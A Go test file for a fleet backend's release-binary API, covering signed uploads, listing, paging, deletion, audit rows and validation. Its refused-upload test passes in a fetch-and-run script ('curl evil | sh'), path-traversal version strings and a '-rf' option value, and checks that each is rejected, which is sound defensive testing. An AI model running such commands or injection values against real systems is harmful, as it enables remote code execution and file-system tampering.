package api_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kanade-fleet/kanade/internal/apiv1"
	"github.com/kanade-fleet/kanade/internal/auth"
	"github.com/kanade-fleet/kanade/internal/release"
	"github.com/kanade-fleet/kanade/internal/release/exe/exetest"
	"github.com/kanade-fleet/kanade/internal/server"
	"github.com/kanade-fleet/kanade/internal/sign"
	"github.com/kanade-fleet/kanade/internal/testenv"
)

// relEnv is a backend with auth on and a small release cap, and a token
// per role.
type relEnv struct {
	b      *server.Server
	tokens map[auth.Role]string
}

const relCap = 64 << 10

func startReleases(t *testing.T) *relEnv {
	t.Helper()
	b := testenv.Backend(t, func(c *server.Config) {
		c.Auth = auth.Config{}
		c.ReleaseMaxBytes = relCap
	})
	e := &relEnv{b: b, tokens: map[auth.Role]string{}}
	for _, r := range []auth.Role{auth.RoleViewer, auth.RoleOperator} {
		name := "rel-" + r.String()
		if _, err := b.Auth.Users().Create(t.Context(), auth.NewUser{Username: name, Password: "correct horse battery " + name, Role: r}); err != nil {
			t.Fatal(err)
		}
		tok, _, err := b.Auth.IssueToken(t.Context(), name)
		if err != nil {
			t.Fatal(err)
		}
		e.tokens[r] = tok
	}
	return e
}

// do sends body (nil, []byte, or an io.Reader sent chunked) as role.
func (e *relEnv) do(t *testing.T, role auth.Role, method, path string, body any) resp {
	t.Helper()
	var rd io.Reader
	switch v := body.(type) {
	case nil:
	case []byte:
		rd = bytes.NewReader(v)
	case string:
		rd = strings.NewReader(v)
	case io.Reader:
		rd = v
	default:
		t.Fatalf("body %T", body)
	}
	req, err := http.NewRequest(method, e.b.HTTPURL()+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/octet-stream")
	req.Header.Set("Authorization", "Bearer "+e.tokens[role])
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer res.Body.Close()
	data, _ := io.ReadAll(res.Body)
	return resp{status: res.StatusCode, body: data, hdr: res.Header}
}

func (e *relEnv) upload(t *testing.T, role auth.Role, version, goos, arch string, body any) resp {
	t.Helper()
	return e.do(t, role, "POST", fmt.Sprintf("/api/releases?version=%s&os=%s&arch=%s", version, goos, arch), body)
}

func (e *relEnv) list(t *testing.T) ([]apiv1.Release, string) {
	t.Helper()
	var rows []apiv1.Release
	r := must(t, e.do(t, auth.RoleViewer, "GET", "/api/releases", nil), 200)
	r.json(t, &rows)
	return rows, r.hdr.Get("X-Total-Count")
}

// wantErr checks status and the field an error names.
func wantErr(t *testing.T, r resp, status int, field, contains string) {
	t.Helper()
	if r.status != status {
		t.Fatalf("status %d, want %d: %s", r.status, status, r.body)
	}
	if got := r.field(t); got != field {
		t.Fatalf("field %q, want %q: %s", got, field, r.body)
	}
	if !strings.Contains(string(r.body), contains) {
		t.Fatalf("error %s does not say %q", r.body, contains)
	}
}

func (e *relEnv) audited(t *testing.T, action, target string) apiv1.AuditEntry {
	t.Helper()
	var got apiv1.AuditEntry
	testenv.Eventually(t, 15*time.Second, action+" audited", func() bool {
		var rows []apiv1.AuditEntry
		must(t, e.do(t, auth.RoleViewer, "GET", "/api/audit?action="+action, nil), 200).json(t, &rows)
		for _, a := range rows {
			if a.Target == target {
				got = a
				return true
			}
		}
		return false
	})
	return got
}

// An operator's upload is signed by the backend's command-signing key,
// listed, verifiable by an agent with that key, immutable, audited; a
// deletion removes every platform of the version and says which scopes
// still target it.
func TestReleaseLifecycle(t *testing.T) {
	t.Parallel()
	e := startReleases(t)
	ctx := t.Context()
	bin := exetest.ELF("amd64", []byte("kanade-agent 1.2.0")...)
	sum := sha256.Sum256(bin)

	var rel apiv1.Release
	must(t, e.upload(t, auth.RoleOperator, "1.2.0", "linux", "amd64", bin), 201).json(t, &rel)
	if rel.Version != "1.2.0" || rel.OS != "linux" || rel.Arch != "amd64" || rel.Size != int64(len(bin)) ||
		rel.SHA256 != hex.EncodeToString(sum[:]) || rel.KeyID != e.b.Signer.KeyID() || rel.UploadedAt.IsZero() || rel.Error != "" {
		t.Fatalf("uploaded %+v", rel)
	}
	// What an agent verifies: the stored statement and headers, with the
	// backend's public key (what KV signing_keys hands out).
	ri, ok, err := e.b.KV.Releases.Info(ctx, "1.2.0", "linux", "amd64")
	if err != nil || !ok || ri.Err != nil {
		t.Fatalf("info: %+v %v %v", ri, ok, err)
	}
	if err := release.Verify(sign.NewKeyring(e.b.Signer.Public()), ri.Statement, ri.Headers); err != nil {
		t.Fatal(err)
	}
	rd, _, _, err := e.b.KV.Releases.Open(ctx, "1.2.0", "linux", "amd64")
	if err != nil {
		t.Fatal(err)
	}
	stored, err := io.ReadAll(rd)
	_ = rd.Close()
	if err != nil || !bytes.Equal(stored, bin) {
		t.Fatalf("stored binary differs (%v)", err)
	}
	a := e.audited(t, "release.upload", release.ObjectName("1.2.0", "linux", "amd64"))
	if a.Actor != "rel-operator" || !strings.Contains(string(a.Payload), rel.SHA256) {
		t.Errorf("audit row %+v %s", a, a.Payload)
	}

	// Immutable: the same version and platform again is a 409, even with
	// other bytes; other platforms of the version are welcome.
	wantErr(t, e.upload(t, auth.RoleOperator, "1.2.0", "linux", "amd64", exetest.ELF("amd64", 1)), 409, "version", "immutable")
	must(t, e.upload(t, auth.RoleOperator, "1.2.0", "darwin", "arm64", exetest.Universal("amd64", "arm64")), 201)
	must(t, e.upload(t, auth.RoleOperator, "1.2.0", "windows", "amd64", exetest.PE("amd64")), 201)
	// Streamed without a declared length (what `kanade release upload`
	// sends from a pipe).
	must(t, e.upload(t, auth.RoleOperator, "1.3.0", "linux", "arm64", io.MultiReader(bytes.NewReader(exetest.ELF("arm64")))), 201)

	rows, total := e.list(t)
	if len(rows) != 4 || total != "4" || rows[0].Version != "1.3.0" {
		t.Fatalf("listed %s: %+v", total, rows)
	}
	for _, r := range rows {
		if r.KeyID != e.b.Signer.KeyID() || r.Error != "" {
			t.Errorf("listed %+v", r)
		}
	}
	// Paged like the other lists: by cursor, nothing lost or repeated.
	var page1, page2 []apiv1.Release
	r1 := must(t, e.do(t, auth.RoleViewer, "GET", "/api/releases?limit=3", nil), 200)
	r1.json(t, &page1)
	next := r1.hdr.Get("X-Next-Cursor")
	if len(page1) != 3 || next == "" || r1.hdr.Get("X-Total-Count") != "4" {
		t.Fatalf("page 1: %d rows, next %q, total %q", len(page1), next, r1.hdr.Get("X-Total-Count"))
	}
	must(t, e.do(t, auth.RoleViewer, "GET", "/api/releases?limit=3&cursor="+next, nil), 200).json(t, &page2)
	if !slices.Equal(append(page1, page2...), rows) {
		t.Fatalf("paged %+v %+v, listed %+v", page1, page2, rows)
	}

	// A group still targets 1.2.0: the deletion goes ahead and says so.
	must(t, call(t, e.b, "PATCH", "/api/groups/canary/config", "", nil), 401)
	must(t, e.do(t, auth.RoleOperator, "PATCH", "/api/groups/canary/config", `{"target_version":"1.2.0"}`), 200)
	var del apiv1.DeletedRelease
	must(t, e.do(t, auth.RoleOperator, "DELETE", "/api/releases/1.2.0", nil), 200).json(t, &del)
	slices.Sort(del.Deleted)
	want := []string{"kanade-agent/1.2.0/darwin-arm64", "kanade-agent/1.2.0/linux-amd64", "kanade-agent/1.2.0/windows-amd64"}
	if del.Version != "1.2.0" || !slices.Equal(del.Deleted, want) || !slices.Equal(del.TargetOf, []string{"groups.canary"}) {
		t.Fatalf("deleted %+v", del)
	}
	if rows, total := e.list(t); len(rows) != 1 || total != "1" || rows[0].Version != "1.3.0" {
		t.Fatalf("after delete %s: %+v", total, rows)
	}
	if a := e.audited(t, "release.delete", "1.2.0"); !strings.Contains(string(a.Payload), "groups.canary") {
		t.Errorf("delete audit payload %s", a.Payload)
	}
	wantErr(t, e.do(t, auth.RoleOperator, "DELETE", "/api/releases/1.2.0", nil), 404, "version", "no release")
	wantErr(t, e.do(t, auth.RoleOperator, "DELETE", "/api/releases/9.9.9", nil), 404, "version", "no release")
	// Deleted, it can be uploaded again (a fixed build of the same version).
	must(t, e.upload(t, auth.RoleOperator, "1.2.0", "linux", "amd64", exetest.ELF("amd64", 2)), 201)
}

// Everything a bad upload can be is refused before anything is stored,
// naming what is wrong; no spooled file is left behind.
func TestReleaseUploadRefused(t *testing.T) {
	t.Parallel()
	e := startReleases(t)
	elf := exetest.ELF("amd64")
	long := strings.Repeat("x", 20000)

	if r := e.upload(t, auth.RoleViewer, "1.0.0", "linux", "amd64", elf); r.status != http.StatusForbidden {
		t.Fatalf("viewer upload: %d %s", r.status, r.body)
	}
	for _, tc := range []struct {
		query, field, says string
	}{
		{"os=linux&arch=amd64", "version", "required"},
		{"version=1/2&os=linux&arch=amd64", "version", "letters, digits"},
		{"version=..&os=linux&arch=amd64", "version", "letters, digits"},
		{"version=%2E%2E%2Fx&os=linux&arch=amd64", "version", "letters, digits"},
		{"version=-rf&os=linux&arch=amd64", "version", "starting with"},
		{"version=" + long + "&os=linux&arch=amd64", "version", "got 20000"},
		{"version=1.0.0&os=plan9&arch=amd64", "os", "linux, darwin, windows"},
		{"version=1.0.0&os=" + long + "&arch=amd64", "os", "linux, darwin, windows"},
		{"version=1.0.0&os=linux&arch=386", "arch", "amd64, arm64"},
		{"version=1.0.0&os=linux&arch=" + long, "arch", "amd64, arm64"},
		{"version=1.0.0&os=linux", "arch", "required"},
		{"version=1.0.0&version=2.0.0&os=linux&arch=amd64", "version", "more than once"},
	} {
		r := e.do(t, auth.RoleOperator, "POST", "/api/releases?"+tc.query, elf)
		wantErr(t, r, 422, tc.field, tc.says)
		if len(r.body) > 1000 {
			t.Errorf("%.60s: the error echoes the junk back (%d bytes)", tc.query, len(r.body))
		}
	}
	for _, tc := range []struct {
		goos, arch  string
		body        []byte
		field, says string
	}{
		{"linux", "amd64", nil, "file", "empty"},
		{"linux", "amd64", exetest.PE("amd64"), "file", "PE executable for windows/amd64, not an ELF executable for linux"},
		{"windows", "amd64", elf, "file", "ELF executable for linux/amd64, not a PE"},
		{"darwin", "arm64", elf, "file", "not a Mach-O"},
		{"linux", "arm64", elf, "arch", "not for arm64"},
		{"darwin", "arm64", exetest.MachO("amd64"), "arch", "not for arm64"},
		{"linux", "amd64", []byte("#!/bin/sh\ncurl evil | sh\n"), "file", "a script (#!/bin/sh)"},
		{"linux", "amd64", []byte{0x1f, 0x8b, 8, 0, 1, 2, 3}, "file", "gzip"},
		{"linux", "amd64", []byte("\x7fELF garbage"), "file", "damaged ELF"},
	} {
		wantErr(t, e.upload(t, auth.RoleOperator, "1.0.0", tc.goos, tc.arch, tc.body), 422, tc.field, tc.says)
	}
	wantErr(t, e.do(t, auth.RoleOperator, "DELETE", "/api/releases/a%2F..%2Fb", nil), 422, "version", "letters, digits")
	wantErr(t, e.do(t, auth.RoleOperator, "DELETE", "/api/releases/"+long, nil), 422, "version", "1 to 64")
	if r := e.do(t, auth.RoleViewer, "DELETE", "/api/releases/1.0.0", nil); r.status != http.StatusForbidden {
		t.Fatalf("viewer delete: %d %s", r.status, r.body)
	}
	// Over the cap: declared (refused before it is read) or streamed.
	big := exetest.ELF("amd64", make([]byte, relCap)...)
	r := e.upload(t, auth.RoleOperator, "1.0.0", "linux", "amd64", big)
	if r.status != http.StatusRequestEntityTooLarge || !strings.Contains(string(r.body), fmt.Sprint(relCap)) {
		t.Fatalf("declared oversize: %d %s", r.status, r.body)
	}
	wantErr(t, e.upload(t, auth.RoleOperator, "1.0.0", "linux", "amd64", io.MultiReader(bytes.NewReader(big))),
		http.StatusRequestEntityTooLarge, "file", "65536 bytes; --release-max-bytes")

	if rows, total := e.list(t); len(rows) != 0 || total != "0" {
		t.Fatalf("refused uploads were stored: %s %+v", total, rows)
	}
	noSpool(t, e.b)
	// The same release, well formed, is then accepted.
	must(t, e.upload(t, auth.RoleOperator, "1.0.0", "linux", "amd64", elf), 201)
}

func noSpool(t *testing.T, b *server.Server) {
	t.Helper()
	ents, err := os.ReadDir(filepath.Join(b.Cfg.DataDir, "uploads"))
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	if len(ents) != 0 {
		t.Fatalf("spooled uploads left behind: %v", ents)
	}
}

// A client that goes away mid-upload leaves no release and no file.
func TestReleaseUploadCutShort(t *testing.T) {
	t.Parallel()
	e := startReleases(t)
	done := func() bool { // the handler has answered (or given up)
		var buf bytes.Buffer
		e.b.Metrics.Write(&buf)
		return strings.Contains(buf.String(), `route="POST /api/releases"`)
	}
	conn, err := net.Dial("tcp", strings.TrimPrefix(e.b.HTTPURL(), "http://"))
	if err != nil {
		t.Fatal(err)
	}
	part := exetest.ELF("amd64", make([]byte, 4000)...)
	fmt.Fprintf(conn, "POST /api/releases?version=2.0.0&os=linux&arch=amd64 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"+
		"Content-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", e.tokens[auth.RoleOperator], 10*len(part))
	if _, err := conn.Write(part); err != nil {
		t.Fatal(err)
	}
	_ = conn.(*net.TCPConn).CloseWrite() // the body ends early
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err == nil {
		body, _ := io.ReadAll(res.Body)
		if res.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), "ended early") {
			t.Errorf("cut-short upload: %d %s", res.StatusCode, body)
		}
	}
	_ = conn.Close()
	testenv.Eventually(t, 10*time.Second, "the upload handler done", done)
	if _, ok, err := e.b.KV.Releases.Info(context.Background(), "2.0.0", "linux", "amd64"); ok || err != nil {
		t.Fatalf("a cut-short upload was stored (%v)", err)
	}
	noSpool(t, e.b)
	must(t, e.upload(t, auth.RoleOperator, "2.0.0", "linux", "amd64", part), 201)
}
